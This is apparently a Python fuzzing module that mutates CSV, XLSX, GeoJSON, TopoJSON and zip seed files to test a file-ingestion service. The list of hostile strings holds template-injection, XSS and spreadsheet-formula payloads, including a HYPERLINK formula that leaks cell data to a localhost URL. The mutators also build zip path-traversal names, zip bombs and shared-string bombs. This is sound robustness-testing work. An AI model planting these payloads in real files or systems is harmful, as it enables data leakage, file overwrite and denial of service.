"""Mutations of seed files, each as a hostile user or a broken export would make them.

A mutator takes (name, bytes, rng) and returns (name, bytes). Generic ones damage bytes;
the others know the format (CSV text, XLSX parts, GeoJSON and TopoJSON, zip members) and
make what the issue lists: huge fields, lines and columns, odd encodings, far cell
references, shared-string bombs, nested JSON, unclosed rings, bow-ties, arcs out of range,
Z coordinates, long, duplicate or dotted member names, a broken .prj. Sizes are drawn so
that some inputs stay under the limits and some go over.
"""

from __future__ import annotations

import importlib
import io
import json
import random
import re
import sys
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any, Final

Mutator = Callable[[str, bytes, random.Random], tuple[str, bytes]]
_ENOUGH: Final = 4_000_000
# No mutation makes more than this: the campaign's own process (not a bounded worker) makes
# the inputs, and 5,000 copies of a 4 MB feature once grew it to 18 GB (the machine's OOM
# killer stopped it).
MAX_OUTPUT: Final = 64_000_000


def _copies(wanted: int, size: int) -> int:
    """``wanted`` copies of ``size`` bytes, or as many as fit in ``MAX_OUTPUT``."""
    return max(1, min(wanted, MAX_OUTPUT // max(1, size)))


# Text written to attack templates, Markdown, LaTeX and spreadsheets: put into names.


def _template_payloads() -> tuple[str, ...]:
    """The lead's template payloads (tests/payloads.py), or two of them when it is absent."""
    tests = str(Path(__file__).resolve().parents[2] / "tests")
    if tests not in sys.path:
        sys.path.append(tests)
    try:
        module = importlib.import_module("payloads")
    except ImportError:
        return ("ONG {{ 7*191 }}", "Asso {% for x in range(3) %}x{% endfor %}")
    return tuple(str(p) for p in module.TEMPLATE_PAYLOADS)


HOSTILE_TEXT: Final = (
    *_template_payloads(),
    '=HYPERLINK("http://127.0.0.1:9/?"&A3,"Cliquez")',
    "+33 1 23",
    "-2+3",
    "@SUM(A1)",
    "\tTab",
    "\rCR",
    "![x](http://127.0.0.1:9/x.png)",
    "[lien](http://127.0.0.1:9/)",
    "$x^2$ et $$y$$",
    "<script>alert(1)</script>",
    "ONG ‮ inversé",
    "\x00nul",
)


# --- any bytes --------------------------------------------------------------------------------
def flip_bytes(name: str, data: bytes, rng: random.Random) -> tuple[str, bytes]:
    out = bytearray(data)
    for _ in range(rng.randint(1, min(64, 1 + len(out) // 500))):
        if out:
            out[rng.randrange(len(out))] = rng.randrange(256)
    return name, bytes(out)


def truncate(name: str, data: bytes, rng: random.Random) -> tuple[str, bytes]:
    return name, data[: rng.randrange(len(data) + 1)]


def splice_chunk(name: str, data: bytes, rng: random.Random) -> tuple[str, bytes]:
    """A chunk repeated, moved or deleted."""
    if len(data) < 4:
        return name, data + data
    start = rng.randrange(len(data))
    end = min(len(data), start + rng.randint(1, 4096))
    chunk = data[start:end]
    where = rng.randrange(len(data))
    choice = rng.random()
    if choice < 0.4:
        return name, data[:where] + chunk * _copies(rng.randint(1, 50), len(chunk)) + data[where:]
    if choice < 0.7:
        return name, data[:start] + data[end:]
    return name, data[:where] + bytes(rng.randrange(256) for _ in range(rng.randint(1, 64))) + data[
        where:
    ]


# --- text tables -----------------------------------------------------------------------------
def _text(data: bytes) -> str:
    return data.decode("utf-8", "replace")


def huge_field(name: str, data: bytes, rng: random.Random) -> tuple[str, bytes]:
    size = rng.choice((1_000, 40_000, 300_000, 5_000_000))
    lines = data.split(b"\n")
    row = rng.randrange(len(lines))
    lines[row] = lines[row] + b"x" * size
    return name, b"\n".join(lines)


def long_first_line(name: str, data: bytes, rng: random.Random) -> tuple[str, bytes]:
    size = rng.choice((200_001, 250_000, 5_000_000))
    return name, b"a" * size + b"\n" + data


def many_columns(name: str, data: bytes, rng: random.Random) -> tuple[str, bytes]:
    sep = rng.choice((b",", b";", b"\t"))
    count = rng.choice((100, 3_000, 100_000, 1_000_000))
    lines = data.split(b"\n")
    row = rng.randrange(len(lines))
    lines[row] = lines[row] + sep * count
    return name, b"\n".join(lines)


def many_rows(name: str, data: bytes, rng: random.Random) -> tuple[str, bytes]:
    lines = data.split(b"\n")
    line = lines[min(len(lines) - 1, 2)] if lines else b""
    wanted = rng.choice((1_000, 50_000, 2_100_000 // max(1, len(line) // 8)))
    return name, data + (line + b"\n") * _copies(wanted, len(line) + 1)


def odd_encoding(name: str, data: bytes, rng: random.Random) -> tuple[str, bytes]:
    text = _text(data)
    choice = rng.randrange(6)
    if choice == 0:  # UTF-16 of odd length
        encoded = text.encode("utf-16")
        return name, encoded[: len(encoded) - 1 if len(encoded) % 2 == 0 else len(encoded)]
    if choice == 1:
        return name, text.replace("\n", "\x85").encode("utf-8")  # NEL
    if choice == 2:
        return name, text.replace("\n", "\u2028").encode("utf-8")
    if choice == 3:
        return name, text.encode("utf-16-be")  # no BOM
    if choice == 4:
        return name, b"\xef\xbb\xbf" + text.replace("\n", "\r").encode("cp1252", "replace")
    return name, text.encode("utf-32")


def broken_quotes(name: str, data: bytes, rng: random.Random) -> tuple[str, bytes]:
    out = bytearray(data)
    for _ in range(rng.randint(1, 5)):
        out.insert(rng.randrange(len(out) + 1), ord('"'))
    return name, bytes(out)


def hostile_names(name: str, data: bytes, rng: random.Random) -> tuple[str, bytes]:
    """Cells (names) replaced by template, formula, Markdown and LaTeX payloads."""
    text = _text(data)
    lines = text.split("\n")
    for _ in range(rng.randint(1, 6)):
        row = rng.randrange(len(lines))
        sep = ";" if lines[row].count(";") > lines[row].count(",") else ","
        cells = lines[row].split(sep)
        cells[rng.randrange(len(cells))] = rng.choice(HOSTILE_TEXT).replace(sep, " ")
        lines[row] = sep.join(cells)
    return name, "\n".join(lines).encode("utf-8")


# --- workbooks -------------------------------------------------------------------------------
def _members(data: bytes) -> list[tuple[zipfile.ZipInfo, bytes]] | None:
    try:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            return [(m, archive.read(m)) for m in archive.infolist()]
    except Exception:  # a damaged seed: the mutation becomes a plain byte flip
        return None


def _rezip(members: list[tuple[str, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with (
        warnings.catch_warnings(),  # a mutated archive may repeat a name: kept as it is
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive,
    ):
        warnings.simplefilter("ignore", UserWarning)
        for member, content in members:
            archive.writestr(member, content)
    return buffer.getvalue()


def far_cell(name: str, data: bytes, rng: random.Random) -> tuple[str, bytes]:
    """A cell reference far away (XFD1048576) or far down, in the first worksheet."""
    members = _members(data)
    if members is None:
        return flip_bytes(name, data, rng)
    ref = rng.choice(("XFD1048576", "XFD1", "A1048576", "ZZ9000", "AAA10", "A2000001"))
    row = re.sub(r"\D", "", ref)
    out = []
    for info, content in members:
        if info.filename.startswith("xl/worksheets/") and b"</sheetData>" in content:
            cell = f'<row r="{row}"><c r="{ref}" t="inlineStr"><is><t>far</t></is></c></row>'
            content = content.replace(b"</sheetData>", cell.encode() + b"</sheetData>", 1)
            if rng.random() < 0.5:
                content = re.sub(
                    rb'<dimension ref="[^"]*"', f'<dimension ref="A1:{ref}"'.encode(), content
                )
        out.append((info.filename, content))
    return name, _rezip(out)


def shared_string_bomb(name: str, data: bytes, rng: random.Random) -> tuple[str, bytes]:
    """Long shared strings, used by many cells."""
    members = _members(data)
    if members is None:
        return flip_bytes(name, data, rng)
    size = rng.choice((10_000, 40_000, 2_000_000))
    cells = rng.choice((10, 2_000, 20_000))
    shared = (
        '<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/'
        f'spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>{"L" * size}</t></si></sst>'
    ).encode()
    rows = "".join(
        f'<row r="{i + 40}"><c r="A{i + 40}" t="s"><v>0</v></c></row>' for i in range(cells)
    )
    out = []
    have_shared = any(i.filename == "xl/sharedStrings.xml" for i, _ in members)
    for info, content in members:
        if info.filename == "xl/sharedStrings.xml":
            content = shared
        elif info.filename.startswith("xl/worksheets/") and b"</sheetData>" in content:
            content = re.sub(rb'\bt="s"><v>\d+</v>', b't="s"><v>0</v>', content)
            content = content.replace(b"</sheetData>", rows.encode() + b"</sheetData>", 1)
        out.append((info.filename, content))
    if not have_shared:
        out.append(("xl/sharedStrings.xml", shared))
    return name, _rezip(out)


def damage_member(name: str, data: bytes, rng: random.Random) -> tuple[str, bytes]:
    """One member of a zip (workbook or shapefile archive) damaged, cut or removed."""
    members = _members(data)
    if not members:
        return flip_bytes(name, data, rng)
    index = rng.randrange(len(members))
    out = []
    for position, (info, content) in enumerate(members):
        if position == index:
            choice = rng.random()
            if choice < 0.3:
                continue
            if choice < 0.6:
                content = content[: rng.randrange(len(content) + 1)]
            else:
                content = flip_bytes(info.filename, content, rng)[1]
        out.append((info.filename, content))
    return name, _rezip(out)


# --- archives --------------------------------------------------------------------------------
def odd_member_names(name: str, data: bytes, rng: random.Random) -> tuple[str, bytes]:
    """Zip members renamed long, duplicated, dotted, nested or pointing outside."""
    members = _members(data)
    if not members:
        return flip_bytes(name, data, rng)
    out = [(i.filename, c) for i, c in members]
    choice = rng.randrange(6)
    index = rng.randrange(len(out))
    member, content = out[index]
    if choice == 0:
        out[index] = ("x" * rng.choice((150, 300, 5000)) + member, content)
    elif choice == 1:
        out.append((member, content[: len(content) // 2]))  # the same name twice
    elif choice == 2:
        out[index] = ("." + member, content)
    elif choice == 3:
        out[index] = ("..." + member, content)
    elif choice == 4:
        out[index] = ("a/" * rng.choice((3, 60)) + member, content)
    else:
        out[index] = (rng.choice(("../", "/etc/", "C:\\")) + member, content)
    buffer = io.BytesIO()
    with (
        warnings.catch_warnings(),  # "Duplicate name": the point of choice 1
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive,
    ):
        warnings.simplefilter("ignore", UserWarning)
        for member_name, member_content in out:
            info = zipfile.ZipInfo(member_name)
            archive.writestr(info, member_content)
    return name, buffer.getvalue()


def broken_prj(name: str, data: bytes, rng: random.Random) -> tuple[str, bytes]:
    members = _members(data)
    if not members:
        return flip_bytes(name, data, rng)
    text = rng.choice(
        (
            b"",
            b"GEOGCS[",
            b'PROJCS["x",GEOGCS["y"]]',
            b"\xff\xfe\x00",
            b"EPSG:99999",
            b'LOCAL_CS["x"]',
        )
    )
    out = [(i.filename, text if i.filename.lower().endswith(".prj") else c) for i, c in members]
    return name, _rezip(out)


def zip_bomb(name: str, data: bytes, rng: random.Random) -> tuple[str, bytes]:
    """A small archive that unpacks to much more (a GeoJSON padded with spaces)."""
    size = rng.choice((5_000_000, 60_000_000, 250_000_000))
    padded = data.rstrip()[:-1] + b" " * size + data.rstrip()[-1:]
    return name.rsplit(".", 1)[0] + ".zip", _rezip(
        [(name if name.endswith("json") else "a.geojson", padded)]
    )


# --- GeoJSON / TopoJSON ----------------------------------------------------------------------
def _json(data: bytes) -> Any:
    try:
        return json.loads(data)
    except Exception:  # a damaged seed: left to the byte mutators
        return None


def _polygons(value: Any) -> list[list[Any]]:
    """Every ring list of every Polygon (and MultiPolygon part) in a GeoJSON value."""
    found: list[list[Any]] = []
    stack = [value]
    while stack:
        item = stack.pop()
        if isinstance(item, dict):
            if item.get("type") == "Polygon" and isinstance(item.get("coordinates"), list):
                found.append(item["coordinates"])
            elif item.get("type") == "MultiPolygon" and isinstance(item.get("coordinates"), list):
                found.extend(p for p in item["coordinates"] if isinstance(p, list))
            else:
                stack.extend(item.values())
        elif isinstance(item, list):
            stack.extend(item)
    return found


def deep_nesting(name: str, data: bytes, rng: random.Random) -> tuple[str, bytes]:
    depth = rng.choice((50, 70, 2_000, 200_000))
    nested = b"[" * depth + b"1" + b"]" * depth
    value = _json(data)
    if isinstance(value, dict) and rng.random() < 0.5:
        text = json.dumps(value).encode()
        return name, text.replace(b'"coordinates": [', b'"coordinates": ' + nested + b", [", 1)
    return name, b'{"type": "FeatureCollection", "features": ' + nested + b"}"


def ring_damage(name: str, data: bytes, rng: random.Random) -> tuple[str, bytes]:
    """Unclosed rings, bow-ties, rings of two points, Z coordinates, NaN, huge rings."""
    value = _json(data)
    polygons = _polygons(value)
    if not polygons:
        return flip_bytes(name, data, rng)
    polygon = rng.choice(polygons)
    if not polygon or not isinstance(polygon[0], list):
        return flip_bytes(name, data, rng)
    ring = polygon[0]
    choice = rng.randrange(7)
    if choice == 0 and len(ring) > 1:
        ring.pop()  # unclosed
    elif choice == 1:
        polygon[0] = [[0, 0], [1, 1], [1, 0], [0, 1], [0, 0]]  # bow-tie
    elif choice == 2:
        polygon[0] = ring[:2]
    elif choice == 3:
        for point in ring:
            if isinstance(point, list):
                point.append(rng.choice((0, 123.5, 1e9)))  # Z
    elif choice == 4 and ring:
        ring[rng.randrange(len(ring))] = [float("nan"), 1e308]
    elif choice == 5:
        count = rng.choice((10_000, 300_000))
        polygon[0] = [[-10 + i * 1e-6, 14 + (i % 2) * 1e-6] for i in range(count)] + [[-10, 14]]
    else:
        polygon[0] = []
    return name, json.dumps(value, allow_nan=True).encode()


def topology_damage(name: str, data: bytes, rng: random.Random) -> tuple[str, bytes]:
    """TopoJSON arcs out of range, a broken transform, objects of the wrong type."""
    value = _json(data)
    if not isinstance(value, dict) or value.get("type") != "Topology":
        return ring_damage(name, data, rng)
    choice = rng.randrange(5)
    text = json.dumps(value)
    if choice == 0:
        text = re.sub(
            r'"arcs": \[\[(-?\d+)',
            lambda m: f'"arcs": [[{rng.choice((99, -99, 2**40))}',
            text,
            count=1,
        )
    elif choice == 1:
        value["transform"] = {"scale": [0, "x"], "translate": [None]}
        text = json.dumps(value)
    elif choice == 2:
        value["arcs"] = []
        text = json.dumps(value)
    elif choice == 3:
        value["objects"] = {
            "adm1": {"type": "GeometryCollection", "geometries": [{"type": "Polygon", "arcs": 5}]}
        }
        text = json.dumps(value)
    else:
        value["arcs"] = [[[0, 0]] * 3] * rng.choice((10, 10_000))
        text = json.dumps(value)
    return name, text.encode()


def property_damage(name: str, data: bytes, rng: random.Random) -> tuple[str, bytes]:
    """Feature properties renamed, emptied, duplicated codes, hostile names."""
    value = _json(data)
    features = value.get("features") if isinstance(value, dict) else None
    if not isinstance(features, list) or not features:
        return hostile_names(name, data, rng)
    feature = rng.choice(features)
    if not isinstance(feature, dict):
        return flip_bytes(name, data, rng)
    properties = feature.get("properties")
    choice = rng.randrange(5)
    if choice == 0 or not isinstance(properties, dict):
        feature["properties"] = rng.choice((None, [], "x", {}))
    elif choice == 1:
        for key in properties:
            properties[key] = rng.choice(HOSTILE_TEXT)
    elif choice == 2:
        for key in list(properties):
            if "PCODE" in key.upper():
                properties[key] = rng.choice(("", None, "ML01", 12))
    elif choice == 3:
        feature["geometry"] = rng.choice(
            (None, "x", {"type": "Point", "coordinates": [0, 0]}, {"type": "Polygon"})
        )
    else:
        size = len(json.dumps(feature))
        features.extend([feature] * _copies(rng.choice((2, 5_000)), size))
    return name, json.dumps(value).encode()


BYTES: Final[tuple[Mutator, ...]] = (flip_bytes, truncate, splice_chunk)
TEXT: Final[tuple[Mutator, ...]] = (
    huge_field,
    long_first_line,
    many_columns,
    many_rows,
    odd_encoding,
    broken_quotes,
    hostile_names,
)
WORKBOOK: Final[tuple[Mutator, ...]] = (far_cell, shared_string_bomb, damage_member, hostile_names)
JSON_MUTATORS: Final[tuple[Mutator, ...]] = (
    deep_nesting,
    ring_damage,
    topology_damage,
    property_damage,
    zip_bomb,
    odd_encoding,
)
ARCHIVE: Final[tuple[Mutator, ...]] = (odd_member_names, broken_prj, damage_member)


def mutators_for(name: str, data: bytes) -> tuple[Mutator, ...]:
    """The mutations that make sense for a file (always the byte-level ones too)."""
    lower = name.lower()
    if data.startswith(b"PK"):
        specific = WORKBOOK if lower.endswith((".xlsx", ".xlsm")) else ARCHIVE
    elif lower.endswith((".json", ".geojson", ".topojson")):
        specific = JSON_MUTATORS + (TEXT if not data.lstrip().startswith(b"{") else ())
    elif lower.endswith(".gpkg"):
        specific = ()
    else:
        specific = TEXT
    return BYTES + specific


def mutate(
    name: str, data: bytes, rng: random.Random, rounds: int | None = None
) -> tuple[str, bytes]:
    """One to three mutations in a row, chosen for what the file is at each step."""
    for _ in range(rounds if rounds is not None else rng.choice((1, 1, 1, 2, 3))):
        mutator = rng.choice(mutators_for(name, data))
        name, data = mutator(name, data, rng)
        if len(data) > _ENOUGH:  # big enough to test the limits: more would only be slow
            break
    return name, data
